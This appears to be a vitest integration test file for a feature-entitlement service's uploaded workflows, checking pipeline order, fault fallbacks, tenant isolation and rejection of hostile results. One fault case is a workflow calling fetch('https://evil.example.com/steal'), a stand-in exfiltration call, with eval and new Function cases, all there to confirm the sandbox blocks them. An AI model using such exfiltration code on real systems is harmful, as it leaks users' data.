/**
 * Workflows at their places in the decision pipeline, uploaded through the admin API like a customer would.
 */
import { exportSPKI, generateKeyPair, SignJWT } from "jose";
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { call, createOrganization, publish } from "../../support/api";
import { expectConsoleError } from "../../support/console";
import { eventsFor } from "../../support/events";
import { helloWorld } from "../../support/examples";
import premiumProvisioning from "../../../examples/workflows/premium-provisioning.ts?raw";
import helloWorldSurface from "../../../examples/workflows/hello-world-surface.ts?raw";

async function setup(workflows: Record<string, unknown>, mutate?: (document: Record<string, any>) => void) {
  const org = await createOrganization("Workflows");
  const document = helloWorld();
  document.surfaces["hello-world"].components = { banner: { cssSelector: "#banner" }, footer: {} };
  document.workflows = workflows;
  mutate?.(document);
  await publish(org.adminKey, document, [org.live.id]);
  return org;
}

const surfaceDecision = (key: string, identity: Record<string, unknown>) =>
  call("POST", "/api/v1/surface-decisions", { key, body: { surfaceSlug: "hello-world", identity } });

async function eventFor(key: string, eventId: string) {
  const found = (await eventsFor(key, "limit=20")).find((event) => event.id === eventId);
  if (!found) throw new Error(`event ${eventId} not recorded`);
  return found;
}

describe("the seed tutorial, part 4", () => {
  it("provisions Premium from a JWT claim through a workflow uploaded with the admin API", async () => {
    const org = await createOrganization("Tutorial 4");
    const key = org.adminKey;
    const keys = await generateKeyPair("RS256", { extractable: true });
    await call("PUT", "/api/v1/admin/config", { key, body: helloWorld() });
    expect(
      (await call("POST", "/api/v1/admin/auth-methods", { key, body: { slug: "test-jwt", publicKey: await exportSPKI(keys.publicKey), identifierClaim: "email" } })).status,
    ).toBe(201);
    const created = await call("POST", "/api/v1/admin/workflows", { key, body: { slug: "premium-provisioning", type: "provisioning", source: premiumProvisioning } });
    expect(created.status).toBe(201);
    await call("POST", "/api/v1/admin/workflows", { key, body: { slug: "hello-surface", type: "surface", surface: "hello-world", source: helloWorldSurface } });
    const version = await call("POST", "/api/v1/admin/versions", { key });
    await call("POST", `/api/v1/admin/environments/${org.live.id}/deployments`, { key, body: { versionId: version.body.id } });

    const sign = (claims: Record<string, unknown>) => new SignJWT(claims).setProtectedHeader({ alg: "RS256" }).sign(keys.privateKey);
    const premium = await surfaceDecision(org.live.publishableKey, { userJwt: await sign({ sub: "1", email: "test@example.com", premium: true }) });
    expect(premium.status).toBe(200);
    // Unlimited over Registered's metered widgets: access whatever the count, and Registered's readings (the counter counts on).
    expect(premium.body.features.widget.properties.enabled).toMatchObject({
      type: "meterable",
      counterId: expect.stringMatching(/^default:feat_/),
      hasAccess: true,
      isFallback: false,
      consumedUnits: 1,
      remainingUnits: 2,
      totalUnits: 3,
    });
    expect(premium.body.features.widget.properties.premium).toEqual({ type: "boolean", value: true, isFallback: false });
    expect(premium.body.surfaceBehavior).toEqual({
      properties: { userMessage: "Hello, test@example.com", isAuthenticated: true, widgetAccess: true, premiumWidgets: true, remainingWidgets: 2 },
    });

    const regular = await surfaceDecision(org.live.publishableKey, { userJwt: await sign({ sub: "2", email: "plain@example.com" }) });
    expect(regular.body.features.widget.properties.enabled).toMatchObject({ hasAccess: true, consumedUnits: 1, totalUnits: 3 });
    expect(regular.body.surfaceBehavior.properties).toMatchObject({ premiumWidgets: false, remainingWidgets: 2 });
    const record = await eventFor(key, premium.body.eventId);
    expect(record.record.plans).toEqual(["registered", "premium"]);
    expect(record.record.planSources.premium).toEqual(["workflow"]);
    expect(record.record.workflows.map((w: any) => [w.slug, w.ok])).toEqual(expect.arrayContaining([["premium-provisioning", true], ["hello-surface", true]]));
  });
});

describe("each workflow type", () => {
  it("runs middleware, feature, surface and component workflows in order", async () => {
    const org = await setup({
      tag: {
        type: "middleware",
        source: `export default ({ identity }) => identity.identifier === "blocked" ? { fail: { status: 451, message: "unavailable here" } } : { identifier: identity.identifier + "-mw" };`,
      },
      "premium-for-group-a": { type: "feature", feature: "widget", source: `export default ({ identity }) => ({ premium: identity.identifier.endsWith("-mw") });` },
      surface: {
        type: "surface",
        surface: "hello-world",
        source: `export default ({ features, identity }) => ({ properties: { who: identity.identifier, premium: features.widget.properties.premium.value } });`,
      },
      banner: {
        type: "component",
        surface: "hello-world",
        component: "banner",
        source: `export default ({ surfaceProperties, componentSlug }) => ({ content: "hi " + surfaceProperties.who, properties: { slot: componentSlug } });`,
      },
    });
    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "alice" });
    expect(result.status, JSON.stringify(result.body)).toBe(200);
    expect(result.body.identity.identifier).toBe("alice-mw");
    expect(result.body.features.widget.properties.premium).toEqual({ type: "boolean", value: true, isFallback: false });
    expect(result.body.surfaceBehavior).toEqual({ properties: { who: "alice-mw", premium: true } });
    expect(result.body.componentBehaviors).toEqual({
      banner: { content: "hi alice-mw", properties: { slot: "banner" }, metadata: { cssSelector: "#banner" } },
      footer: { metadata: { cssSelector: null } },
    });
    const blocked = await surfaceDecision(org.live.secretKey, { userIdentifier: "blocked" });
    expect(blocked.status).toBe(451);
    expect(blocked.body).toMatchObject({ status: "error", statusCode: 451, message: "unavailable here" });
  });

  it("hands the middleware's properties to every later workflow as middlewareProperties", async () => {
    const org = await setup({
      "a-geo": { type: "middleware", source: `export default () => ({ properties: { region: "eu", tier: "from-a" } });` },
      "b-tier": { type: "middleware", source: `export default ({ middlewareProperties }) => ({ properties: { tier: "gold", sawBefore: middlewareProperties === undefined } });` },
      "gold-gets-premium": { type: "provisioning", source: `export default ({ middlewareProperties }) => (middlewareProperties.tier === "gold" ? ["premium"] : []);` },
      flag: { type: "feature", feature: "widget", source: `export default ({ middlewareProperties }) => ({ premium: middlewareProperties.region === "eu" });` },
      surface: { type: "surface", surface: "hello-world", source: `export default ({ middlewareProperties }) => ({ properties: { ...middlewareProperties } });` },
      banner: { type: "component", surface: "hello-world", component: "banner", source: `export default ({ middlewareProperties }) => ({ content: middlewareProperties.tier });` },
    });
    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "carol" });
    expect(result.status, JSON.stringify(result.body)).toBe(200);
    // Merged in slug order (b-tier after a-geo); middleware itself gets none.
    expect(result.body.surfaceBehavior).toEqual({ properties: { region: "eu", tier: "gold", sawBefore: true } });
    expect(result.body.componentBehaviors.banner).toMatchObject({ content: "gold" });
    expect(result.body.features.widget.properties.premium).toEqual({ type: "boolean", value: true, isFallback: false });
    const event = await eventFor(org.live.secretKey, result.body.eventId);
    expect(event.record.planSources.premium).toEqual(["workflow"]);
  });

  it("skips components when the surface workflow replaces the response", async () => {
    const org = await setup({
      gate: { type: "surface", surface: "hello-world", source: `export default () => ({ http: { status: 302, headers: { location: "/login" }, body: "" } });` },
      banner: { type: "component", surface: "hello-world", component: "banner", source: `export default () => ({ content: "never" });` },
    });
    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "bob" });
    expect(result.body.componentsSkipped).toBe(true);
    expect(result.body.componentBehaviors).toEqual({});
    expect(result.body.surfaceBehavior.http).toEqual({ status: 302, headers: { location: "/login" }, body: "" });
  });
});

describe("several feature workflows on one feature", () => {
  // Run side by side, applied in the snapshot's order (by slug): each builds on what the earlier ones set, and a later
  // value for the same property replaces an earlier one. Only the values that stand are reported as overrides.
  const reportsSetup = (workflows: Record<string, string>, { planGrants }: { planGrants: boolean }) =>
    setup(
      Object.fromEntries(Object.entries(workflows).map(([slug, source]) => [slug, { type: "feature", feature: "reports", source }])),
      (document) => {
        document.features.reports = { properties: { quality: { type: "string", fallback: "low", values: ["low", "high"] } } };
        if (planGrants) document.plans.registered.features.reports = { enabled: "on" };
        document.surfaces["hello-world"].consumes = ["widget.enabled", "reports.enabled"];
      },
    );
  const deny = `export default () => ({ enabled: false });`;
  const grant = `export default () => ({ enabled: true });`;
  const quality = `export default () => ({ quality: "high" });`;

  async function decide(org: Awaited<ReturnType<typeof setup>>) {
    const result = await call("POST", "/api/v1/surface-decisions?trace=true", {
      key: org.live.secretKey,
      body: { surfaceSlug: "hello-world", identity: { userIdentifier: `reader-${crypto.randomUUID()}` } },
    });
    expect(result.status, JSON.stringify(result.body)).toBe(200);
    const winner = (property: string) => result.body.trace.properties.find((entry: any) => entry.featureSlug === "reports" && entry.property === property)?.winner;
    const event = await eventFor(org.live.secretKey, result.body.eventId);
    return { reports: result.body.features.reports.properties, winner, trace: result.body.trace, event };
  }

  for (const [order, workflows] of [
    ["deny, then another property", { "a-deny": deny, "b-quality": quality }],
    ["another property, then deny", { "a-quality": quality, "b-deny": deny }],
  ] as const) {
    it(`keeps a denial over a plan's on (${order})`, async () => {
      const org = await reportsSetup(workflows, { planGrants: true });
      const { reports, winner, trace, event } = await decide(org);
      expect(reports.enabled).toMatchObject({ hasAccess: false, isFallback: false });
      expect(reports.quality).toEqual({ type: "string", value: "high", isFallback: false });
      const denier = Object.keys(workflows).find((slug) => slug.endsWith("deny"));
      const improver = Object.keys(workflows).find((slug) => slug.endsWith("quality"));
      expect(winner("enabled")).toEqual({ kind: "workflow", workflow: denier });
      expect(winner("quality")).toEqual({ kind: "workflow", workflow: improver });
      expect(trace.denials).toEqual([{ featureSlug: "reports", property: "enabled", reason: "workflow_override" }]);
      expect(event.outcome).toBe("denied");
      expect(event.record.denials).toEqual([{ featureSlug: "reports", property: "enabled", reason: "workflow_override" }]);
    });
  }

  for (const [order, workflows] of [
    ["grant, then another property", { "a-grant": grant, "b-quality": quality }],
    ["another property, then grant", { "a-quality": quality, "b-grant": grant }],
  ] as const) {
    it(`keeps a grant no plan gives (${order})`, async () => {
      const org = await reportsSetup(workflows, { planGrants: false });
      const { reports, winner, trace, event } = await decide(org);
      expect(reports.enabled).toMatchObject({ hasAccess: true, isFallback: false });
      expect(reports.quality).toEqual({ type: "string", value: "high", isFallback: false });
      expect(winner("enabled")).toEqual({ kind: "workflow", workflow: Object.keys(workflows).find((slug) => slug.endsWith("grant")) });
      expect(trace.denials).toEqual([]);
      expect(event.outcome).toBe("granted");
      expect(event.record.denials).toEqual([]);
    });
  }

  it("the last workflow to set a property wins, and only its override stands", async () => {
    const granted = await decide(await reportsSetup({ "a-deny": deny, "b-grant": grant }, { planGrants: false }));
    expect(granted.reports.enabled).toMatchObject({ hasAccess: true });
    expect(granted.winner("enabled")).toEqual({ kind: "workflow", workflow: "b-grant" });
    expect(granted.event.record.denials).toEqual([]);

    const denied = await decide(await reportsSetup({ "a-grant": grant, "b-deny": deny }, { planGrants: true }));
    expect(denied.reports.enabled).toMatchObject({ hasAccess: false });
    expect(denied.winner("enabled")).toEqual({ kind: "workflow", workflow: "b-deny" });
    expect(denied.event.record.denials).toEqual([{ featureSlug: "reports", property: "enabled", reason: "workflow_override" }]);
  });
});

describe("faults degrade to the fallback", () => {
  const faults: Record<string, string> = {
    throws: `export default () => { throw new Error("boom"); };`,
    loops: `export default () => { while (true) {} };`,
    "bad-shape": `export default () => 42;`,
    evals: `export default () => [eval("'premium'")];`,
    "new-function": `export default () => [new Function("return 'premium'")()];`,
    fetches: `export default async () => { await fetch("https://evil.example.com/steal"); return ["premium"]; };`,
    slow: `export default () => new Promise((resolve) => setTimeout(() => resolve(["premium"]), 2000));`,
  };
  for (const [name, source] of Object.entries(faults)) {
    it(`a provisioning workflow that ${name} adds no plans and is recorded`, async () => {
      const org = await setup({ faulty: { type: "provisioning", source } });
      const result = await surfaceDecision(org.live.secretKey, { userIdentifier: `user-${name}` });
      expect(result.status).toBe(200);
      expect(result.body.features.widget.properties.premium).toEqual({ type: "boolean", value: false, isFallback: false });
      const event = await eventFor(org.live.secretKey, result.body.eventId);
      expect(event.record.plans).toEqual(["registered"]);
      expect(event.record.workflows).toEqual([expect.objectContaining({ slug: "faulty", ok: false, error: expect.any(String) })]);
    });
  }

  it("a required workflow that fails answers 531", async () => {
    const org = await setup({ strict: { type: "provisioning", required: true, source: faults.throws! } });
    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "strict" });
    expect(result.status).toBe(531);
    expect(result.body).toMatchObject({ status: "error", statusCode: 531, code: "workflow_error" });
    // A secret key (the customer's own server) reads the workflow's error; a browser's publishable key does not.
    expect(result.body.message).toContain("boom");
    const fromBrowser = await surfaceDecision(org.live.publishableKey, { anonymousIdentifier: "strict-visitor" });
    expect(fromBrowser.status).toBe(531);
    expect(fromBrowser.body.message).toBe("Workflow strict failed");
    // Both failed decisions are recorded, with the workflow's run and its error.
    const failed = await eventsFor(org.live.secretKey, "outcome=failed&kind=surface_decision", 2);
    expect(failed).toHaveLength(2);
    for (const event of failed) {
      expect(event.record.workflows).toEqual([expect.objectContaining({ slug: "strict", ok: false, kind: "threw" })]);
      expect(event.record.error).toContain("boom");
    }
  });

  it("a required middleware that fails answers 531 on counter updates and identity links too, recorded, its text for secret keys only", async () => {
    const org = await setup({ gate: { type: "middleware", required: true, source: faults.throws! } });
    const counterId = `default:${(await call("GET", "/api/v1/admin/features/widget", { key: org.live.secretKey })).body.id}.enabled`;
    const update = (key: string, identity: Record<string, unknown>) => call("POST", "/api/v1/counter-updates", { key, body: { identity, counterId } });
    const fromBrowser = await update(org.live.publishableKey, { anonymousIdentifier: "v1" });
    expect(fromBrowser.status).toBe(531);
    expect(fromBrowser.body.message).toBe("Workflow gate failed");
    const fromServer = await update(org.live.secretKey, { userIdentifier: "u1" });
    expect(fromServer.status).toBe(531);
    expect(fromServer.body.message).toContain("boom");
    const link = await call("POST", "/api/v1/identity-links", { key: org.live.secretKey, body: { identity: { userIdentifier: "u1" }, anonymousIdentifier: "v1" } });
    expect(link.status).toBe(531);
    expect(link.body.message).toContain("boom");
    const failed = await eventsFor(org.live.secretKey, "outcome=failed&kind=counter_update", 3);
    expect(failed).toHaveLength(3);
    for (const event of failed) expect(event.record.workflows).toEqual([expect.objectContaining({ slug: "gate", ok: false, kind: "threw" })]);
  });

  it("a version whose workflow does not compile is refused with its line and column", async () => {
    const org = await createOrganization("Broken");
    const document = helloWorld();
    document.workflows = { broken: { type: "provisioning", source: "const a: number = 1;\nexport default () => [;\n" } };
    await call("PUT", "/api/v1/admin/config", { key: org.adminKey, body: document });
    const version = await call("POST", "/api/v1/admin/versions", { key: org.adminKey });
    expect(version.status).toBe(400);
    expect(version.body.details).toEqual([{ path: "workflows.broken.source", message: expect.stringMatching(/line 2, column \d+/) }]);
  });
});

describe("request facts workflows see", () => {
  it("the client IP comes from the body only with a secret key (a browser's publishable key cannot pick it)", async () => {
    const org = await setup({
      ip: { type: "surface", surface: "hello-world", source: `export default ({ context }: any) => ({ properties: { ip: context.clientIp } });` },
    });
    const decide = (key: string) =>
      call("POST", "/api/v1/surface-decisions", {
        key,
        headers: { "cf-connecting-ip": "203.0.113.9" },
        body: { surfaceSlug: "hello-world", identity: { anonymousIdentifier: "ip-visitor" }, http: { clientIP: "10.1.2.3" } },
      });
    expect((await decide(org.live.publishableKey)).body.surfaceBehavior.properties.ip).toBe("203.0.113.9");
    expect((await decide(org.live.secretKey)).body.surfaceBehavior.properties.ip).toBe("10.1.2.3");
  });
});

describe("utils are scoped to the tenant", () => {
  it("custom data written by tenant A's workflow is invisible to tenant B's", async () => {
    const writer = `export default async ({ identity, utils }) => { await utils.customData.set("secret", "A-" + identity.identifier); return {}; };`;
    const reader = `export default async ({ utils }) => ({ properties: { seen: await utils.customData.get("secret") } });`;
    const a = await setup({ write: { type: "middleware", source: writer }, read: { type: "surface", surface: "hello-world", source: reader } });
    const b = await setup({ read: { type: "surface", surface: "hello-world", source: reader } });
    const first = await surfaceDecision(a.live.secretKey, { userIdentifier: "shared@example.com" });
    expect(first.body.surfaceBehavior.properties.seen).toBe("A-shared@example.com");
    const other = await surfaceDecision(b.live.secretKey, { userIdentifier: "shared@example.com" });
    expect(other.body.surfaceBehavior.properties.seen).toBeNull();
  });

  it("provisioning workflows get read-only utils", async () => {
    const org = await setup({ sneaky: { type: "provisioning", source: `export default async ({ utils }) => { await utils.customData.set("x", 1); return ["premium"]; };` } });
    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "ro" });
    expect(result.body.features.widget.properties.premium.value).toBe(false);
    const event = await eventFor(org.live.secretKey, result.body.eventId);
    expect(event.record.workflows[0].error).toMatch(/read-only/);
  });
});

describe("counter updates see the plans a decision sees", () => {
  it("a plan provisioned by a workflow decides whether the counter is metered", async () => {
    const org = await setup({
      "vip-premium": { type: "provisioning", source: `export default ({ identity }) => identity.identifier.startsWith("vip") ? ["premium"] : [];` },
    });
    const featureId = (await call("GET", "/api/v1/admin/features/widget", { key: org.live.secretKey })).body.id;
    const update = (identifier: string) =>
      call("POST", "/api/v1/counter-updates", { key: org.live.secretKey, body: { identity: { userIdentifier: identifier }, counterId: `default:${featureId}.enabled` } });
    const regular = await update("regular@example.com");
    expect(regular.status).toBe(200);
    expect(regular.body.counter).toMatchObject({ consumedUnits: 1, totalUnits: 3 });
    // For a VIP the provisioning workflow adds Premium, whose widget is "on" over Registered's 3: counted, unlimited,
    // reported under Registered's limit.
    await update("vip@example.com");
    await update("vip@example.com");
    await update("vip@example.com");
    const vip = await update("vip@example.com");
    expect(vip.status).toBe(200);
    expect(vip.body.counter).toMatchObject({ consumedUnits: 4, totalUnits: 3, remainingUnits: 0, hasAccess: true });
  });
});

describe("hostile results fall back and are recorded, never a 5xx", () => {
  const surfaceReturning = (body: string) => ({ surface: { type: "surface", surface: "hello-world", source: `export default () => { ${body} };` } });

  it.each([
    ["an http status that is not a number", `return { http: { status: "teapot", body: 42 } };`, "unexpected result"],
    ["an http replacement without a status", `return { http: { body: "<h1>hi</h1>" } };`, "unexpected result"],
    ["a header value that is not text", `return { http: { addHeaders: [{ name: "x-n", value: 5 }] } };`, "unexpected result"],
    ["a BigInt", `return { properties: { n: BigInt(10) } };`, "bigint"],
    ["a cycle", `const o: any = { a: 1 }; o.self = o; return { content: o };`, "cycle"],
    ["a Map", `return { content: new Map([["a", 1]]) };`, "Map instance"],
    ["NaN", `return { properties: { n: NaN } };`, "NaN"],
    ["more than 256 KiB", `return { content: "x".repeat(300 * 1024) };`, "256 KiB of JSON allowed"],
  ])("a surface workflow returning %s", async (_what, body, reason) => {
    const org = await setup(surfaceReturning(body));
    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "mallory" });
    expect(result.status, JSON.stringify(result.body)).toBe(200);
    expect(result.body.surfaceBehavior).toEqual({});
    expect(result.body.componentsSkipped).toBe(false);
    const event = await eventFor(org.live.secretKey, result.body.eventId);
    expect(event.record.workflows).toEqual([expect.objectContaining({ slug: "surface", ok: false, kind: "bad_result", error: expect.stringContaining(reason) })]);
  });

  it("feature and component workflows returning what JSON cannot carry fall back too", async () => {
    const org = await setup({
      "big-feature": { type: "feature", feature: "widget", source: `export default () => ({ premium: BigInt(1) });` },
      banner: { type: "component", surface: "hello-world", component: "banner", source: `export default () => { const o: any = {}; o.o = o; return { content: o }; };` },
    });
    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "mallory" });
    expect(result.status, JSON.stringify(result.body)).toBe(200);
    expect(result.body.features.widget.properties.premium).toEqual({ type: "boolean", value: false, isFallback: false });
    expect(result.body.componentBehaviors.banner).toEqual({ metadata: { cssSelector: "#banner" } });
    const event = await eventFor(org.live.secretKey, result.body.eventId);
    expect(event.record.workflows.map((run: { slug: string; kind?: string }) => [run.slug, run.kind]).sort()).toEqual([
      ["banner", "bad_result"],
      ["big-feature", "bad_result"],
    ]);
  });

  it("a feature workflow may set a string property only to one of its declared values", async () => {
    const org = await setup({ tiers: { type: "feature", feature: "widget", source: `export default () => ({ tier: "platinum", size: "large" });` } }, (document) => {
      document.features.widget.properties.tier = { type: "string", fallback: "basic", values: ["basic", "gold"] };
      document.features.widget.properties.size = { type: "string", fallback: "small" };
    });
    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "trent" });
    expect(result.status, JSON.stringify(result.body)).toBe(200);
    // Outside the declared values: refused, the fallback stands. A free-form string property takes any string.
    expect(result.body.features.widget.properties.tier).toEqual({ type: "string", value: "basic", isFallback: true });
    expect(result.body.features.widget.properties.size).toEqual({ type: "string", value: "large", isFallback: false });
    const event = await eventFor(org.live.secretKey, result.body.eventId);
    expect(event.record.workflows).toContainEqual(expect.objectContaining({ slug: "tiers", ok: false, kind: "bad_result", error: 'cannot set tier to "platinum"' }));
  });
});

describe("settings that cannot be read", () => {
  it("a secret that no longer decrypts makes the workflows unavailable: they fall back, recorded, never a 500", async () => {
    const org = await setup({ surface: { type: "surface", surface: "hello-world", source: `export default ({ env }: any) => ({ properties: { token: env.CRM_TOKEN } });` } });
    const base = `/api/v1/admin/environments/${org.live.id}/variables`;
    expect((await call("PUT", `${base}/CRM_TOKEN`, { key: org.live.secretKey, body: { value: "tok", secret: true } })).status).toBe(200);
    // As after SECRETS_KEY changed: the stored ciphertext no longer opens.
    await env.DB.prepare("UPDATE environment_variables SET value = 'v1:AAAAAAAAAAAAAAAA:AAAAAAAAAAAAAAAAAAAAAA==' WHERE environment_id = ? AND name = 'CRM_TOKEN'").bind(org.live.id).run();
    // An operator's problem, logged as an error; the request still answers with the fallback.
    expectConsoleError("workflow_settings_unavailable");
    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "settings" });
    expect(result.status, JSON.stringify(result.body)).toBe(200);
    expect(result.body.surfaceBehavior).toEqual({});
    const event = await eventFor(org.live.secretKey, result.body.eventId);
    expect(event.record.workflows).toEqual([expect.objectContaining({ slug: "surface", ok: false, kind: "unavailable" })]);
  });
});
